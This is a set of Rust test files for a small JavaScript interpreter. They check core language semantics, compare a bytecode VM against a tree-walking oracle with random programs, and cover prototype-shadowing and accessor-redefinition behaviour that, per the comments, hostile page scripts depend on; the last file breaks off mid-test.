#[test]
fn arguments_object() {
    assert_eq!(num("function f() { return arguments.length; } f(1, 2, 3)"), 3.0);
    assert_eq!(num("function f() { return arguments[1]; } f(10, 20)"), 20.0);
}

#[test]
fn this_binding_in_method_calls() {
    let src = r#"
        var obj = { x: 7, get: function () { return this.x; } };
        obj.get()
    "#;
    assert_eq!(num(src), 7.0);
}

#[test]
fn arrow_functions_bind_this_lexically() {
    let src = r#"
        var obj = {
            x: 5,
            make: function () { return () => this.x; }
        };
        var f = obj.make();
        f()
    "#;
    assert_eq!(num(src), 5.0);
}

#[test]
fn call_and_apply() {
    assert_eq!(
        num("function f(a, b) { return this.base + a + b; } f.call({ base: 100 }, 1, 2)"),
        103.0
    );
    assert_eq!(
        num("function f(a, b) { return this.base + a + b; } f.apply({ base: 10 }, [1, 2])"),
        13.0
    );
}

#[test]
fn bind_creates_partially_applied_function() {
    assert_eq!(
        num("function f(a, b) { return this.x * (a + b); } var g = f.bind({ x: 2 }, 3); g(4)"),
        14.0
    );
}

#[test]
fn new_constructs_with_prototype() {
    let src = r#"
        function Point(x, y) { this.x = x; this.y = y; }
        Point.prototype.norm2 = function () { return this.x * this.x + this.y * this.y; };
        var p = new Point(3, 4);
        p.norm2()
    "#;
    assert_eq!(num(src), 25.0);
    assert!(boolean(
        "function A() {} var a = new A(); a instanceof A"
    ));
}

#[test]
fn function_hoisting() {
    assert_eq!(num("var r = f(); function f() { return 9; } r"), 9.0);
}

#[test]
fn recursion_depth_is_bounded() {
    let r = eval("function f() { return f(); } f()");
    assert!(r.is_err(), "unbounded recursion must be stopped");
}

// ------------------------------------------------------------- exceptions

#[test]
fn try_catch_finally() {
    assert_eq!(num("var r = 0; try { throw 5; } catch (e) { r = e; } r"), 5.0);
    assert_eq!(
        num("var r = 0; try { r = 1; } finally { r += 10; } r"),
        11.0
    );
    assert_eq!(
        num("function f() { try { return 1; } finally { side = 2; } } var side = 0; f() + side"),
        3.0
    );
}

#[test]
fn error_objects_have_name_message_stack() {
    assert_eq!(text("var e = new Error('boom'); e.name + ': ' + e.message"), "Error: boom");
    assert_eq!(text("var e = new TypeError('t'); e.name"), "TypeError");
    assert!(boolean("typeof new Error('x').stack === 'string'"));
}

#[test]
fn stack_trace_contains_function_and_script_names() {
    let mut it = Interp::new();
    let v = it
        .eval_script(
            r#"
            function inner() { return new Error('x').stack; }
            function outer() { return inner(); }
            outer()
            "#,
            "myscript.js",
        )
        .unwrap();
    let stack = v.as_str().unwrap().to_string();
    assert!(stack.contains("inner@myscript.js"), "stack was: {stack}");
    assert!(stack.contains("outer@myscript.js"), "stack was: {stack}");
}

#[test]
fn uncaught_exceptions_surface_as_engine_error() {
    assert!(eval("undefinedVariable").is_err());
    assert!(eval("null.prop").is_err());
    assert!(eval("(42)()").is_err());
}

#[test]
fn typeof_missing_identifier_does_not_throw() {
    assert_eq!(text("typeof notDefinedAnywhere"), "undefined");
    assert_eq!(text("typeof 42"), "number");
    assert_eq!(text("typeof 'x'"), "string");
    assert_eq!(text("typeof {}"), "object");
    assert_eq!(text("typeof function(){}"), "function");
    assert_eq!(text("typeof null"), "object");
}

// ----------------------------------------------------------- object model

#[test]
fn object_literals_and_member_access() {
    assert_eq!(num("var o = { a: 1, 'b-c': 2 }; o.a + o['b-c']"), 3.0);
    assert_eq!(num("var o = {}; o.x = 5; o.x"), 5.0);
}

#[test]
fn delete_removes_properties() {
    assert!(boolean("var o = { a: 1 }; delete o.a; !('a' in o)"));
    assert!(boolean("var o = { a: 1 }; delete o['a']; o.a === undefined"));
}

#[test]
fn prototype_chain_lookup_and_shadowing() {
    let src = r#"
        var base = { v: 'base' };
        var child = Object.create(base);
        var before = child.v;
        child.v = 'child';
        before + '/' + child.v + '/' + base.v
    "#;
    assert_eq!(text(src), "base/child/base");
}

#[test]
fn define_property_accessors() {
    let src = r#"
        var o = {};
        var reads = 0;
        Object.defineProperty(o, 'probe', {
            get: function () { reads++; return 42; },
            enumerable: true
        });
        o.probe + o.probe + reads
    "#;
    // 42 + 42 + 2 (reads counted *before* the final read of `reads`).
    assert_eq!(num(src), 86.0);
}

#[test]
fn getter_only_accessor_ignores_assignment() {
    let src = r#"
        var o = {};
        Object.defineProperty(o, 'ro', { get: function () { return 1; } });
        o.ro = 99;
        o.ro
    "#;
    assert_eq!(num(src), 1.0);
}

#[test]
fn setters_intercept_assignment_along_prototype_chain() {
    let src = r#"
        var proto = {};
        var captured = null;
        Object.defineProperty(proto, 'hook', {
            set: function (v) { captured = v; }
        });
        var o = Object.create(proto);
        o.hook = 'gotcha';
        captured
    "#;
    assert_eq!(text(src), "gotcha");
}

#[test]
fn get_own_property_names_in_insertion_order() {
    assert_eq!(
        text("var o = { z: 1, a: 2 }; o.m = 3; Object.getOwnPropertyNames(o).join(',')"),
        "z,a,m"
    );
}

#[test]
fn has_own_property_vs_in_operator() {
    let src = r#"
        var base = { inh: 1 };
        var o = Object.create(base);
        o.own = 2;
        [o.hasOwnProperty('own'), o.hasOwnProperty('inh'), 'inh' in o].join(',')
    "#;
    assert_eq!(text(src), "true,false,true");
}

#[test]
fn get_own_property_descriptor_reports_accessors() {
    let src = r#"
        var o = {};
        Object.defineProperty(o, 'g', { get: function () { return 1; } });
        var d = Object.getOwnPropertyDescriptor(o, 'g');
        typeof d.get
    "#;
    assert_eq!(text(src), "function");
}

#[test]
fn object_to_string_uses_class() {
    assert_eq!(text("({}).toString()"), "[object Object]");
}

// ------------------------------------------------------ function toString

#[test]
fn script_function_tostring_is_verbatim_source() {
    let src = "function probe(a, b) {\n  return a + b;\n}\nprobe.toString()";
    let out = text(src);
    assert_eq!(out, "function probe(a, b) {\n  return a + b;\n}");
}

#[test]
fn native_function_tostring_shows_native_code() {
    let out = text("Object.keys.toString()");
    assert_eq!(out, "function keys() {\n    [native code]\n}");
    assert!(text("''.indexOf.toString()").contains("[native code]"));
}

// ----------------------------------------------------------------- arrays

#[test]
fn array_basics() {
    assert_eq!(num("[1, 2, 3].length"), 3.0);
    assert_eq!(num("var a = []; a.push(9); a.push(8); a[1]"), 8.0);
    assert_eq!(text("[1, 2, 3].join('-')"), "1-2-3");
    assert_eq!(num("[5, 6, 7].indexOf(6)"), 1.0);
    assert_eq!(num("['a', 'b'].indexOf('z')"), -1.0);
    assert!(boolean("[1, 2].includes(2)"));
    assert_eq!(text("[3, 1, 2].sort().join('')"), "123");
}

#[test]
fn array_higher_order_functions() {
    assert_eq!(num("var s = 0; [1,2,3].forEach(function (v) { s += v; }); s"), 6.0);
    assert_eq!(text("[1,2,3].map(function (v) { return v * 2; }).join(',')"), "2,4,6");
    assert_eq!(text("[1,2,3,4].filter(function (v) { return v % 2 === 0; }).join(',')"), "2,4");
    assert!(boolean("[1,2,3].some(function (v) { return v === 2; })"));
}

#[test]
fn array_slice_and_concat() {
    assert_eq!(text("[1,2,3,4].slice(1, 3).join(',')"), "2,3");
    assert_eq!(text("[1,2,3].slice(-2).join(',')"), "2,3");
    assert_eq!(text("[1].concat([2, 3], 4).join(',')"), "1,2,3,4");
}

#[test]
fn array_length_assignment_truncates() {
    assert_eq!(num("var a = [1,2,3,4]; a.length = 2; a.length"), 2.0);
}

// ---------------------------------------------------------------- strings

#[test]
fn string_methods() {
    assert_eq!(num("'hello'.indexOf('ll')"), 2.0);
    assert_eq!(num("'hello'.indexOf('z')"), -1.0);
    assert!(boolean("'HeadlessChrome'.includes('Headless')"));
    assert!(boolean("'mozilla'.startsWith('moz')"));
    assert!(boolean("'file.js'.endsWith('.js')"));
    assert_eq!(text("'AbC'.toLowerCase()"), "abc");
    assert_eq!(text("'AbC'.toUpperCase()"), "ABC");
    assert_eq!(text("'  x '.trim()"), "x");
    assert_eq!(text("'abcdef'.slice(1, 3)"), "bc");
    assert_eq!(text("'abcdef'.slice(-2)"), "ef");
    assert_eq!(text("'abcdef'.substring(4, 2)"), "cd");
    assert_eq!(text("'a,b,c'.split(',').join('|')"), "a|b|c");
    assert_eq!(text("'aaa'.replace('a', 'b')"), "baa");
    assert_eq!(num("'abc'.charCodeAt(1)"), 98.0);
    assert_eq!(text("String.fromCharCode(104, 105)"), "hi");
    assert_eq!(num("'abc'.length"), 3.0);
    assert_eq!(text("'abc'[1]"), "b");
}

// ---------------------------------------------------------------- globals

#[test]
fn parse_int_and_float() {
    assert_eq!(num("parseInt('42px')"), 42.0);
    assert_eq!(num("parseInt('ff', 16)"), 255.0);
    assert_eq!(num("parseInt('0x1A')"), 26.0);
    assert!(boolean("isNaN(parseInt('zz'))"));
    assert_eq!(num("parseFloat('2.5rem')"), 2.5);
}

#[test]
fn json_stringify() {
    assert_eq!(text("JSON.stringify({ a: 1, b: 'x' })"), r#"{"a":1,"b":"x"}"#);
    assert_eq!(text("JSON.stringify([1, 'two', null])"), r#"[1,"two",null]"#);
    assert_eq!(text("JSON.stringify('a\"b')"), r#""a\"b""#);
}

#[test]
fn math_functions() {
    assert_eq!(num("Math.floor(2.7)"), 2.0);
    assert_eq!(num("Math.max(1, 9, 3)"), 9.0);
    assert_eq!(num("Math.min(4, 2)"), 2.0);
    assert_eq!(num("Math.pow(2, 10)"), 1024.0);
    assert!(boolean("Math.random() >= 0 && Math.random() < 1"));
}

#[test]
fn math_random_is_deterministic_across_realms() {
    let mut a = Interp::new();
    let mut b = Interp::new();
    let va = a.eval_script("Math.random()", "t").unwrap();
    let vb = b.eval_script("Math.random()", "t").unwrap();
    assert!(va.strict_eq(&vb));
}

#[test]
fn console_log_captured() {
    let mut it = Interp::new();
    it.eval_script("console.log('hello', 42)", "t").unwrap();
    assert_eq!(it.console, vec!["hello 42"]);
}

// ------------------------------------------------------------------- eval

#[test]
fn direct_eval_runs_in_caller_scope() {
    assert_eq!(num("var x = 1; function f() { var x = 5; return eval('x + 1'); } f()"), 6.0);
    assert_eq!(num("eval('2 + 3')"), 5.0);
}

#[test]
fn eval_defines_functions() {
    assert_eq!(num("eval('function g() { return 7; }'); g()"), 7.0);
}

#[test]
fn eval_syntax_error_is_catchable() {
    assert!(boolean("var caught = false; try { eval('var = broken'); } catch (e) { caught = true; } caught"));
}

// ------------------------------------------------------------- timers/jobs

#[test]
fn set_timeout_runs_on_advance_time() {
    let mut it = Interp::new();
    it.eval_script("var fired = []; setTimeout(function () { fired.push('a'); }, 500);", "t")
        .unwrap();
    // Not yet due.
    let errs = it.advance_time(100);
    assert!(errs.is_empty());
    assert_eq!(num_in(&mut it, "fired.length"), 0.0);
    it.advance_time(400);
    assert_eq!(num_in(&mut it, "fired.length"), 1.0);
}

#[test]
fn timers_fire_in_due_then_seq_order() {
    let mut it = Interp::new();
    it.eval_script(
        r#"
        var order = [];
        setTimeout(function () { order.push('late'); }, 50);
        setTimeout(function () { order.push('early1'); }, 10);
        setTimeout(function () { order.push('early2'); }, 10);
        "#,
        "t",
    )
    .unwrap();
    it.advance_time(100);
    assert_eq!(text_in(&mut it, "order.join(',')"), "early1,early2,late");
}

#[test]
fn nested_timers_run_if_due() {
    let mut it = Interp::new();
    it.eval_script(
        "var hits = 0; setTimeout(function () { hits++; setTimeout(function () { hits++; }, 1); }, 1);",
        "t",
    )
    .unwrap();
    it.advance_time(10);
    assert_eq!(num_in(&mut it, "hits"), 2.0);
}

fn num_in(it: &mut Interp, src: &str) -> f64 {
    match it.eval_script(src, "probe").unwrap() {
        Value::Num(n) => n,
        other => panic!("expected number, got {other:?}"),
    }
}

fn text_in(it: &mut Interp, src: &str) -> String {
    match it.eval_script(src, "probe").unwrap() {
        Value::Str(s) => s.to_string(),
        other => panic!("expected string, got {other:?}"),
    }
}

// ------------------------------------------------------------ step budget

#[test]
fn infinite_loops_hit_step_budget() {
    let mut it = Interp::new();
    it.step_limit = 100_000;
    let r = it.eval_script("while (true) {}", "t");
    match r {
        Err(jsengine::EngineError::Budget(_)) => {}
        other => panic!("expected budget error, got {other:?}"),
    }
}

#[test]
fn step_budget_not_swallowed_by_try_catch() {
    let mut it = Interp::new();
    it.step_limit = 100_000;
    let r = it.eval_script("try { while (true) {} } catch (e) { 'swallowed' }", "t");
    assert!(matches!(r, Err(jsengine::EngineError::Budget(_))));
}

// ----------------------------------------------------------- host surface

#[test]
fn globals_are_window_properties() {
    // `var` at top level creates global-object properties, and host lookups
    // fall back to the global object — the browser crate depends on both.
    assert_eq!(num("var shared = 3; globalThis.shared"), 3.0);
    assert_eq!(num("globalThis.injected = 8; injected"), 8.0);
}

#[test]
fn update_operators() {
    assert_eq!(num("var i = 5; i++; i"), 6.0);
    assert_eq!(num("var i = 5; i++"), 5.0);
    assert_eq!(num("var i = 5; ++i"), 6.0);
    assert_eq!(num("var i = 5; --i; i--; i"), 3.0);
    assert_eq!(num("var a = [1]; a[0]++; a[0]"), 2.0);
    assert_eq!(num("var o = { n: 1 }; o.n += 4; o.n"), 5.0);
}
