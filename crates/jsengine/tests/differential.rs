//! Differential property tests: the bytecode VM against the tree-walking
//! oracle.
//!
//! The VM backend is only admissible if it is *observably identical* to the
//! tree-walker — same values, same thrown errors (message and kind), same
//! side-effect order, and the same interpreter profile (`ops` equality is
//! the strongest check: the VM coalesces step charges, so any drift in its
//! accounting or in evaluation order shows up as an ops mismatch). These
//! tests generate random programs from a bounded grammar and run each one
//! under both engines in fresh realms.

use jsengine::{Engine, Interp, Profile};
use proplite::{run_cases, Rng};

/// What one engine observed from one program: the completion value (or the
/// error message), plus the full interpreter profile.
#[derive(Debug, PartialEq)]
struct Observation {
    outcome: Result<String, String>,
    profile: Profile,
}

fn observe(engine: Engine, src: &str) -> Observation {
    let mut it = Interp::new();
    it.engine = engine;
    it.enable_profiling();
    let outcome = match it.eval_script(src, "diff.js") {
        Ok(v) => Ok(format!("{v:?}")),
        Err(e) => Err(e.to_string()),
    };
    Observation { outcome, profile: it.take_profile().expect("profiler was enabled") }
}

fn assert_engines_agree(src: &str) {
    let tree = observe(Engine::Tree, src);
    let vm = observe(Engine::Vm, src);
    assert_eq!(tree, vm, "engines diverged on program:\n{src}");
}

// ------------------------------------------------------ program generator

const IDENT_POOL: &[&str] = &["a", "b", "c", "d", "e"];

struct Gen<'r> {
    rng: &'r mut Rng,
    /// Variables declared so far (generated code only references these, so
    /// every program is closed modulo deliberate `typeof` probes).
    vars: Vec<String>,
    funcs: Vec<(String, usize)>,
    out: String,
    depth: usize,
}

impl<'r> Gen<'r> {
    fn new(rng: &'r mut Rng) -> Gen<'r> {
        Gen { rng, vars: Vec::new(), funcs: Vec::new(), out: String::new(), depth: 0 }
    }

    fn fresh_var(&mut self) -> String {
        let name = format!("v{}", self.vars.len());
        self.vars.push(name.clone());
        name
    }

    fn var_ref(&mut self) -> String {
        if self.vars.is_empty() {
            return "0".to_string();
        }
        let i = self.rng.usize_in(0, self.vars.len());
        self.vars[i].clone()
    }

    fn expr(&mut self) -> String {
        self.depth += 1;
        let leaf = self.depth > 3;
        let pick = if leaf { self.rng.usize_in(0, 5) } else { self.rng.usize_in(0, 12) };
        let e = match pick {
            0 => format!("{}", self.rng.i64_in(-100, 100)),
            1 => format!("'{}'", self.rng.string_of("abcxyz", 0, 4)),
            2 => if self.rng.usize_in(0, 2) == 0 { "true" } else { "false" }.to_string(),
            3 | 4 => self.var_ref(),
            5 => {
                let op = ["+", "-", "*", "%", "<", ">", "==", "===", "&&", "||"]
                    [self.rng.usize_in(0, 10)];
                format!("({} {} {})", self.expr(), op, self.expr())
            }
            6 => {
                let op = ["!", "-", "typeof "][self.rng.usize_in(0, 3)];
                format!("({}{})", op, self.expr())
            }
            7 => format!("({} ? {} : {})", self.expr(), self.expr(), self.expr()),
            8 => format!("('' + {}).length", self.expr()),
            9 => format!("Math.abs({})", self.expr()),
            10 => {
                if !self.funcs.is_empty() {
                    let i = self.rng.usize_in(0, self.funcs.len());
                    let (name, arity) = self.funcs[i].clone();
                    let args: Vec<String> = (0..arity).map(|_| self.expr()).collect();
                    format!("{name}({})", args.join(", "))
                } else {
                    self.var_ref()
                }
            }
            _ => {
                let probe = IDENT_POOL[self.rng.usize_in(0, IDENT_POOL.len())];
                format!("(typeof {probe})")
            }
        };
        self.depth -= 1;
        e
    }

    fn stmts(&mut self, n: usize, loops_ok: bool) {
        for _ in 0..n {
            self.stmt(loops_ok);
        }
    }

    fn stmt(&mut self, loops_ok: bool) {
        match self.rng.usize_in(0, if loops_ok { 10 } else { 7 }) {
            0 | 1 => {
                let e = self.expr();
                let v = self.fresh_var();
                self.out.push_str(&format!("var {v} = {e};\n"));
            }
            2 => {
                let v = self.var_ref();
                let e = self.expr();
                if v != "0" {
                    let op = ["=", "+=", "-="][self.rng.usize_in(0, 3)];
                    self.out.push_str(&format!("{v} {op} {e};\n"));
                }
            }
            3 => {
                let c = self.expr();
                self.out.push_str(&format!("if ({c}) {{\n"));
                self.stmts(1, false);
                if self.rng.usize_in(0, 2) == 0 {
                    self.out.push_str("} else {\n");
                    self.stmts(1, false);
                }
                self.out.push_str("}\n");
            }
            4 => {
                let e = self.expr();
                self.out.push_str(&format!("log.push('' + ({e}));\n"));
            }
            5 => {
                // A function definition plus (sometimes) an immediate call.
                let name = format!("f{}", self.funcs.len());
                let arity = self.rng.usize_in(0, 3);
                let params: Vec<String> = (0..arity).map(|i| format!("p{i}")).collect();
                let body_ret = self.expr();
                self.out.push_str(&format!(
                    "function {name}({}) {{ return {body_ret}; }}\n",
                    params.join(", ")
                ));
                self.funcs.push((name, arity));
            }
            6 => {
                // try/catch exercises the VM's oracle fallback (`TreeStmt`).
                let thrown = self.rng.string_of("abc", 1, 3);
                let e = self.expr();
                let v = self.fresh_var();
                self.out.push_str(&format!(
                    "var {v} = 0;\ntry {{ if ({e}) {{ throw new Error('{thrown}'); }} \
                     {v} = 1; }} catch (err) {{ {v} = err.message; }}\n"
                ));
            }
            7 => {
                let n = self.rng.usize_in(0, 6);
                let body = self.expr();
                let v = self.fresh_var();
                self.out.push_str(&format!(
                    "var {v} = 0;\nfor (var i{v} = 0; i{v} < {n}; i{v}++) \
                     {{ {v} += ('' + ({body})).length; }}\n"
                ));
            }
            8 => {
                let v = self.fresh_var();
                let start = self.rng.usize_in(0, 7);
                self.out.push_str(&format!(
                    "var {v} = {start};\nwhile ({v} > 0) {{ {v} -= 1; log.push('w' + {v}); }}\n"
                ));
            }
            _ => {
                let v = self.fresh_var();
                let ks: Vec<String> = (0..self.rng.usize_in(1, 4))
                    .map(|i| format!("k{i}: {}", self.expr()))
                    .collect();
                self.out.push_str(&format!("var {v} = {{ {} }};\n", ks.join(", ")));
                self.out.push_str(&format!(
                    "for (var kk in {v}) {{ log.push(kk + '=' + {v}[kk]); }}\n"
                ));
            }
        }
    }

    fn program(mut self) -> String {
        self.out.push_str("var log = [];\n");
        let n = self.rng.usize_in(2, 9);
        self.stmts(n, true);
        let fin = self.expr();
        self.out.push_str(&format!("log.join('|') + '#' + ('' + ({fin}))\n"));
        self.out
    }
}

// ------------------------------------------------------------- properties

/// Random well-formed programs: values, side-effect order, and the exact
/// interpreter profile must match between engines.
#[test]
fn random_programs_agree_across_engines() {
    run_cases(200, 0xD1FF, |rng: &mut Rng| {
        let src = Gen::new(rng).program();
        assert_engines_agree(&src);
    });
}

/// Programs that throw (unhandled) must produce identical error messages
/// and identical profiles up to the throw point.
#[test]
fn throwing_programs_agree_across_engines() {
    run_cases(100, 0xD1FE, |rng: &mut Rng| {
        let mut g = Gen::new(rng);
        g.out.push_str("var log = [];\n");
        let n = g.rng.usize_in(1, 4);
        g.stmts(n, true);
        // Then a guaranteed failure: an undefined reference or a
        // non-function call, both of which must throw the same error text.
        let bad = match g.rng.usize_in(0, 3) {
            0 => "nosuchvar + 1;\n".to_string(),
            1 => "var nf = 1; nf();\n".to_string(),
            _ => format!("throw new Error('{}');\n", g.rng.string_of("xyz", 1, 4)),
        };
        g.out.push_str(&bad);
        let src = g.program();
        let tree = observe(Engine::Tree, &src);
        let vm = observe(Engine::Vm, &src);
        assert!(tree.outcome.is_err(), "program must throw:\n{src}");
        assert_eq!(tree, vm, "engines diverged on throwing program:\n{src}");
    });
}

/// The step budget must exhaust after the same number of recorded steps:
/// a program that exceeds the budget fails identically under both engines.
#[test]
fn budget_exhaustion_is_identical() {
    let src = "var n = 0; while (true) { n += 1; } n";
    let tree = observe(Engine::Tree, src);
    let vm = observe(Engine::Vm, src);
    assert!(tree.outcome.is_err(), "infinite loop must hit the budget");
    assert_eq!(tree, vm, "budget exhaustion diverged");
}

/// Recursion-depth limits fire identically (frame accounting is shared).
#[test]
fn recursion_limit_is_identical() {
    let src = "function r(n) { return r(n + 1); } r(0)";
    let tree = observe(Engine::Tree, src);
    let vm = observe(Engine::Vm, src);
    assert!(tree.outcome.is_err(), "unbounded recursion must fail");
    assert_eq!(tree, vm, "recursion limit diverged");
}
