//! Adversarial-semantics tests: the engine behaviours that hostile page
//! scripts rely on — shadowing, tampering, introspection — must work
//! exactly like a real engine, or the reproduction's attacks would be
//! theatre.

use jsengine::{eval, Interp, Value};

fn text(src: &str) -> String {
    match eval(src).unwrap() {
        Value::Str(s) => s.to_string(),
        other => panic!("expected string, got {other:?}"),
    }
}

fn boolean(src: &str) -> bool {
    match eval(src).unwrap() {
        Value::Bool(b) => b,
        other => panic!("expected bool, got {other:?}"),
    }
}

#[test]
fn shadowing_a_method_on_an_instance_beats_the_prototype() {
    // The mechanism behind the dispatcher hijack: an own property wins
    // against the inherited native.
    let src = r#"
        var proto = { hit: function () { return 'proto'; } };
        var obj = Object.create(proto);
        var before = obj.hit();
        obj.hit = function () { return 'shadow'; };
        var after = obj.hit();
        delete obj.hit;
        var restored = obj.hit();
        [before, after, restored].join(',')
    "#;
    assert_eq!(text(src), "proto,shadow,proto");
}

#[test]
fn saved_function_references_survive_shadowing() {
    let src = r#"
        var obj = { f: function (x) { return x * 2; } };
        var saved = obj.f;
        obj.f = function (x) { return 0; };
        saved(21)
    "#;
    assert_eq!(eval(src).unwrap(), Value::Num(42.0));
}

#[test]
fn var_in_loops_is_function_scoped() {
    // The instrument's wrapper loops depend on closure-captures of
    // parameters, not loop variables (classic var pitfall).
    let src = r#"
        var fns = [];
        for (var i = 0; i < 3; i++) {
            fns.push(function () { return i; });
        }
        [fns[0](), fns[1](), fns[2]()].join(',')
    "#;
    assert_eq!(text(src), "3,3,3");
    // Capturing via a parameter freezes the value.
    let src = r#"
        function make(v) { return function () { return v; }; }
        var fns = [];
        for (var i = 0; i < 3; i++) { fns.push(make(i)); }
        [fns[0](), fns[1](), fns[2]()].join(',')
    "#;
    assert_eq!(text(src), "0,1,2");
}

#[test]
fn define_property_can_replace_native_accessors() {
    // The vanilla instrument's core move, end to end in pure script.
    let src = r#"
        var host = {};
        Object.defineProperty(host, 'secret', {
            get: function () { return 'original'; }, enumerable: true
        });
        var origDesc = Object.getOwnPropertyDescriptor(host, 'secret');
        var orig = origDesc.get;
        var log = [];
        Object.defineProperty(host, 'secret', {
            get: function () { log.push('seen'); return orig.call(this); },
            enumerable: true
        });
        var v = host.secret;
        v + ':' + log.length
    "#;
    assert_eq!(text(src), "original:1");
}

#[test]
fn tostring_of_redefined_function_changes() {
    let src = r#"
        var o = { f: function () { return 1; } };
        var before = ('' + o.f).indexOf('return 1') !== -1;
        o.f = function () { return 2; };
        var after = ('' + o.f).indexOf('return 2') !== -1;
        before && after
    "#;
    assert!(boolean(src));
}

#[test]
fn error_stack_is_captured_at_construction_not_at_throw() {
    let mut it = Interp::new();
    let v = it
        .eval_script(
            r#"
            function maker() { return new Error('premade'); }
            var e = maker();
            function thrower(err) { throw err; }
            var stack = '';
            try { thrower(e); } catch (c) { stack = '' + c.stack; }
            stack
            "#,
            "adv.js",
        )
        .unwrap();
    let stack = v.as_str().unwrap();
    assert!(stack.contains("maker@adv.js"), "stack: {stack}");
    assert!(!stack.contains("thrower@"), "stack must be from construction: {stack}");
}

#[test]
fn for_in_sees_properties_added_to_prototypes_later() {
    let src = r#"
        var proto = {};
        var obj = Object.create(proto);
        proto.added = 1;
        var keys = [];
        for (var k in obj) { keys.push(k); }
        keys.join(',')
    "#;
    assert_eq!(text(src), "added");
}

#[test]
fn non_enumerable_properties_hide_from_iteration_but_not_access() {
    let src = r#"
        var o = {};
        Object.defineProperty(o, 'hidden', { value: 42, enumerable: false });
        var keys = [];
        for (var k in o) { keys.push(k); }
        keys.length + ':' + o.hidden + ':' + Object.getOwnPropertyNames(o).length
    "#;
    assert_eq!(text(src), "0:42:1");
}

#[test]
fn getter_exceptions_propagate_to_caller() {
    let src = r#"
        var o = {};
        Object.defineProperty(o, 'trap', {
            get: function () { throw new TypeError('illegal'); }
        });
        var caught = '';
        try { o.trap; } catch (e) { caught = e.name; }
        caught
    "#;
    assert_eq!(text(src), "TypeError");
}

#[test]
fn instanceof_follows_rewired_prototypes() {
    let src = r#"
        function A() {}
        function B() {}
        var x = new A();
        var viaA = x instanceof A;
        Object.setPrototypeOf(x, B.prototype);
        var viaB = x instanceof B;
        var stillA = x instanceof A;
        [viaA, viaB, stillA].join(',')
    "#;
    assert_eq!(text(src), "true,true,false");
}

#[test]
fn eval_can_define_globals_visible_to_later_scripts() {
    let mut it = Interp::new();
    it.eval_script("eval('var planted = 99;');", "first.js").unwrap();
    let v = it.eval_script("planted", "second.js").unwrap();
    assert_eq!(v, Value::Num(99.0));
}

#[test]
fn swallowed_exceptions_do_not_corrupt_state() {
    let src = r#"
        var ok = 0;
        for (var i = 0; i < 10; i++) {
            try {
                if (i % 2 === 0) { throw i; }
                ok++;
            } catch (e) {}
        }
        ok
    "#;
    assert_eq!(eval(src).unwrap(), Value::Num(5.0));
}

#[test]
fn arguments_reflects_extra_parameters() {
    let src = r#"
        function probe() {
            var out = [];
            for (var i = 0; i < arguments.length; i++) { out.push(arguments[i]); }
            return out.join('-');
        }
        probe('a', 'b', 'c', 'd')
    "#;
    assert_eq!(text(src), "a-b-c-d");
}

#[test]
fn apply_with_arguments_forwards_everything() {
    // `func.apply(this, arguments)` — the wrapper idiom from Listing 1.
    let src = r#"
        function inner(a, b, c) { return '' + a + b + c; }
        function wrapper() { return inner.apply(this, arguments); }
        wrapper(1, 2, 3)
    "#;
    assert_eq!(text(src), "123");
}

#[test]
fn global_this_assignment_and_window_identity() {
    let src = "globalThis.x = 5; var viaGlobal = x; globalThis === globalThis && viaGlobal === 5";
    assert!(boolean(src));
}

#[test]
fn heavily_nested_data_structures_roundtrip() {
    let src = r#"
        var deep = { a: [ { b: [ { c: 'found' } ] } ] };
        deep.a[0].b[0].c
    "#;
    assert_eq!(text(src), "found");
}

#[test]
fn string_conversion_of_objects_uses_custom_tostring() {
    let src = r#"
        var o = { toString: function () { return 'custom!'; } };
        'value: ' + o
    "#;
    assert_eq!(text(src), "value: custom!");
}
