//! Property-based tests for engine invariants.

use jsengine::{Interp, Value};
use proptest::prelude::*;

/// Evaluate a numeric expression in a fresh realm.
fn eval_num(src: &str) -> f64 {
    match Interp::new().eval_script(src, "prop").unwrap() {
        Value::Num(n) => n,
        other => panic!("expected number from {src:?}, got {other:?}"),
    }
}

proptest! {
    /// Integer arithmetic in MiniJS matches Rust f64 arithmetic.
    #[test]
    fn addition_matches_f64(a in -1_000_000i64..1_000_000, b in -1_000_000i64..1_000_000) {
        let got = eval_num(&format!("({a}) + ({b})"));
        prop_assert_eq!(got, (a + b) as f64);
    }

    #[test]
    fn multiplication_matches_f64(a in -10_000i64..10_000, b in -10_000i64..10_000) {
        let got = eval_num(&format!("({a}) * ({b})"));
        prop_assert_eq!(got, (a * b) as f64);
    }

    /// String literals round-trip through the lexer/parser/interpreter for
    /// arbitrary alphanumeric content.
    #[test]
    fn string_literal_roundtrip(s in "[a-zA-Z0-9 _.-]{0,40}") {
        let got = Interp::new().eval_script(&format!("'{s}'"), "prop").unwrap();
        prop_assert_eq!(got.as_str().unwrap(), s.as_str());
    }

    /// Property insertion order is observation order via
    /// `Object.getOwnPropertyNames`, for any set of distinct keys.
    #[test]
    fn property_insertion_order_preserved(keys in proptest::collection::hash_set("[a-z]{1,8}", 1..10)) {
        let keys: Vec<String> = keys.into_iter().collect();
        let mut src = String::from("var o = {};\n");
        for k in &keys {
            src.push_str(&format!("o['{k}'] = 1;\n"));
        }
        src.push_str("Object.getOwnPropertyNames(o).join(',')");
        let got = Interp::new().eval_script(&src, "prop").unwrap();
        let expected = keys.join(",");
        prop_assert_eq!(got.as_str().unwrap(), expected.as_str());
    }

    /// `delete` then `in` is always false; re-adding restores it.
    #[test]
    fn delete_then_in_is_false(k in "[a-z]{1,10}") {
        let src = format!(
            "var o = {{}}; o['{k}'] = 1; delete o['{k}']; ('{k}' in o) ? 1 : 0"
        );
        prop_assert_eq!(eval_num(&src), 0.0);
    }

    /// Array push/length invariant.
    #[test]
    fn push_increments_length(n in 0usize..50) {
        let mut src = String::from("var a = [];\n");
        for i in 0..n {
            src.push_str(&format!("a.push({i});\n"));
        }
        src.push_str("a.length");
        prop_assert_eq!(eval_num(&src), n as f64);
    }

    /// indexOf finds every element pushed at the position it was pushed.
    #[test]
    fn index_of_finds_unique_elements(vals in proptest::collection::hash_set(0i64..1000, 1..20)) {
        let vals: Vec<i64> = vals.into_iter().collect();
        let list = vals.iter().map(|v| v.to_string()).collect::<Vec<_>>().join(",");
        for (i, v) in vals.iter().enumerate() {
            let src = format!("[{list}].indexOf({v})");
            prop_assert_eq!(eval_num(&src), i as f64);
        }
    }

    /// JSON.stringify always produces output containing every string value.
    #[test]
    fn json_stringify_contains_values(s in "[a-z]{1,10}") {
        let got = Interp::new()
            .eval_script(&format!("JSON.stringify({{ k: '{s}' }})"), "prop")
            .unwrap();
        prop_assert!(got.as_str().unwrap().contains(&s));
    }

    /// Strict equality is reflexive for numbers (except NaN, excluded).
    #[test]
    fn strict_eq_reflexive(n in -1e9f64..1e9) {
